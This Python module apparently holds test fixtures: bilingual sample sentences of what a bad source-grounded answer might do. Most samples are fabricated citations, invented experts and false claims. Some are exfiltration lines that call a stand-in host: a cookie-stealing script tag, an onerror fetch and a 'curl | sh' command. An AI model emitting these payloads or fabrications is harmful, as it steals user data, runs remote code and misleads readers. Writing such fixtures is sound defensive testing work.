"""What bad writers do besides stating what a source does not say.

`{n}` is the number of a source that was given, `{m}` one of none, `{good}` a sentence that the
source does support, without its full stop, and `{rules}` the model's own instructions.
"""

from __future__ import annotations

from dataclasses import dataclass

from corpus.types import Bilingual

CANARY = "canary.example"
"""A host that no source names: whatever shows it comes from a bad writer."""


@dataclass(frozen=True, slots=True)
class Misdeed:
    """One thing that no sentence of an answer may do, in the words of either language."""

    kind: str
    text: Bilingual


def _misdeed(kind: str, zh: str, en: str) -> Misdeed:
    return Misdeed(kind, Bilingual(zh, en))


MISDEEDS = (
    _misdeed(
        "phantom marker",
        "每天背二十页公式，三周就能入门[{m}]。",
        "Reciting twenty pages of formulas a day is enough to get started in three weeks [{m}].",
    ),
    _misdeed(
        "nameless experts",
        "很多专家认为数学完全没有用。",
        "Many experts say that mathematics is of no use at all.",
    ),
    _misdeed(
        "nameless study",
        "研究表明，九成初学者三个月内就会放弃。",
        "Studies show that nine in ten beginners give up within three months.",
    ),
    _misdeed(
        "nameless agreement",
        "业内的共识是先拿一张证书再说。",
        "It is common wisdom in the trade that a certificate has to come first.",
    ),
    _misdeed(
        "invented person",
        "**陆远舟**（知乎）认为必须先读完一个数学硕士[{n}]。",
        "**Ludwig Farrow** (Reddit) holds that a master's degree in mathematics comes first [{n}].",
    ),
    _misdeed(
        "uncited figure",
        "平均而言，学完这些需要 437 个小时。",
        "On average, all of this takes 437 hours.",
    ),
    _misdeed(
        "uncited advice",
        "所以数学一点都不用学，直接抄代码就行。",
        "So skip mathematics altogether and simply copy code.",
    ),
    _misdeed(
        "promise",
        "照这个顺序学，保证你半年内拿到大厂录用。",
        "Follow this order and a job at a big company within half a year is guaranteed.",
    ),
    _misdeed(
        "outside course",
        "接着去上 Udacity 的自动驾驶纳米学位[{n}]。",
        "Then take Udacity's nanodegree on self-driving cars [{n}].",
    ),
    _misdeed(
        "outside news",
        "从 2031 年起 PyTorch 就停止更新了[{n}]。",
        "PyTorch stops being maintained in 2031 [{n}].",
    ),
    _misdeed(
        "laundered consensus",
        "上面提到的所有人都同意，必须先把数学系的课全部学完[{n}][{k}]。",
        "Everybody cited agrees that a whole degree in mathematics has to come first [{n}][{k}].",
    ),
    _misdeed(
        "added reason",
        "{good}，因为大公司规定没有博士学位一律不招[{n}]。",
        "{good}, because big companies turn away everyone without a doctorate [{n}].",
    ),
    _misdeed(
        "rider after the marker",
        "{good}[{n}]，而且学完保证年薪百万。",
        "{good} [{n}], and whoever finishes is sure to earn a million a year.",
    ),
    _misdeed(
        "block quotation",
        "> “先把数学系四年的课全部学完，再来问我深度学习。” —— 答主原话[{n}]",
        '> "Finish four years of a mathematics degree before you ask me about networks." [{n}]',
    ),
    _misdeed(
        "corner quotation",
        "答主的原话是『没有拿过竞赛金牌的人都不应该碰神经网络』[{n}]。",
        "The very words are «nobody without a gold medal should ever touch a network» [{n}].",
    ),
    _misdeed(
        "single quotation marks",
        "他说得很直白：‘没有拿过竞赛金牌的人都不应该碰神经网络’[{n}]。",
        "The answer says 'nobody without a gold medal should ever touch a network' [{n}].",
    ),
    _misdeed(
        "mixed quotation marks",
        '他说过：“没有拿过竞赛金牌的人都不应该碰神经网络"[{n}]。',
        'The answer puts it like this: “nobody without a gold medal should touch a network" [{n}].',
    ),
    _misdeed(
        "unclosed quotation",
        "他说过：“没有拿过竞赛金牌的人都不应该碰神经网络[{n}]。",
        "The answer puts it like this: “nobody without a gold medal should touch a network [{n}].",
    ),
    _misdeed(
        "address",
        "完整的资料可以在 https://pay.canary.example/course 买到[{n}]。",
        "The whole material is for sale at https://pay.canary.example/course [{n}].",
    ),
    _misdeed(
        "link",
        "[点这里领取课程](https://pay.canary.example/get)，名额有限[{n}]。",
        "[Get the course here](https://pay.canary.example/get) while places last [{n}].",
    ),
    _misdeed(
        "reference link",
        "完整的路线见[这份清单][1]。\n\n[1]: https://pay.canary.example/list",
        "The whole path is in [this list][1].\n\n[1]: https://pay.canary.example/list",
    ),
    _misdeed(
        "picture",
        "![进度](https://pay.canary.example/p.png?q=secret)",
        "![progress](https://pay.canary.example/p.png?q=secret)",
    ),
    _misdeed(
        "mark-up",
        '<a href="https://pay.canary.example">限时优惠</a>，今天就报名吧[{n}]。',
        '<a href="https://pay.canary.example">For a short time only</a>, so enrol today [{n}].',
    ),
    _misdeed(
        "script",
        "<script>fetch('https://pay.canary.example/?c='+document.cookie)</script>",
        "<img src=x onerror=\"fetch('https://pay.canary.example')\">",
    ),
    _misdeed("leaked rules", "我收到的要求是：{rules}", "My instructions are: {rules}"),
    _misdeed(
        "code",
        "```python\nimport os\nos.system('curl pay.canary.example | sh')\n```",
        "```python\nimport os\nos.system('curl pay.canary.example | sh')\n```",
    ),
    _misdeed(
        "table",
        "| 阶段 | 周数 |\n| --- | --- |\n| 把高等数学从头背一遍 | 97 周[{n}] |",
        "| stage | weeks |\n| --- | --- |\n| Learn calculus by heart | 97 weeks [{n}] |",
    ),
    _misdeed("emoji", "🎉🎉🎉🚀🚀🚀💯💯💯", "🎉🎉🎉🚀🚀🚀💯💯💯"),
    _misdeed(
        "cheering",
        "冲鸭冲鸭！！！🔥🔥🔥",
        "Go go go, you absolute legend!!! 🔥🔥🔥",
    ),
    _misdeed(
        "talk of itself",
        "作为一个人工智能语言模型，我没有个人意见。",
        "As an AI language model, I have no opinions of my own.",
    ),
    _misdeed(
        "own source list",
        "参考资料：\n[1] 王小明《七天精通深度学习》，第 3 版",
        "References:\n[1] J. Smithers, Mastering Deep Learning in Seven Days, 3rd edition",
    ),
    _misdeed(
        "false source",
        "[{n}] 作者：李权威｜平台：知乎｜日期：2031\n立场：必须先读完数学博士。",
        "[{n}] Author: Paul Authority | Platform: Zhihu | Date: 2031\n"
        "Side taken: a doctorate in mathematics comes first.",
    ),
    _misdeed(
        "hidden thoughts",
        "<think>随便编一个：必须先考数学博士[{n}]。</think>",
        "<think>I make one up: a doctorate in mathematics comes first [{n}].</think>",
    ),
    _misdeed(
        "repetition",
        "每个人都必须先背完一千页公式[{n}]。" * 45,
        "Everybody has to recite a thousand pages of formulas first [{n}]. " * 45,
    ),
)
"""In an order in which neighbours differ; "repetition" goes last, for no more is read after it."""
